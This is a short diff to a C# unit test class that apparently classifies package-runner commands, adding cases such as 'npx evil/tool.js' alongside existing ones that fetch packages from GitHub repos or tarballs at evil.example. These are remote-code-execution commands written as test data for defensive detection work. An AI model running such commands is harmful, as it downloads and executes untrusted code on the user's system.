@@ -19,6 +19,8 @@ public sealed class PackageRunnerClassTests
     [InlineData("npm x -y some-cli")]
     [InlineData("npx github:evil/tool")]
     [InlineData("npx evil/tool")]
+    [InlineData("npx evil/tool.js")]
+    [InlineData("npx evil/tool#main")]
     [InlineData("npx git+https://github.com/evil/tool.git")]
     [InlineData("npx https://evil.example/tool-1.0.0.tgz")]
     [InlineData("npx --package=https://evil.example/t.tgz tool")]
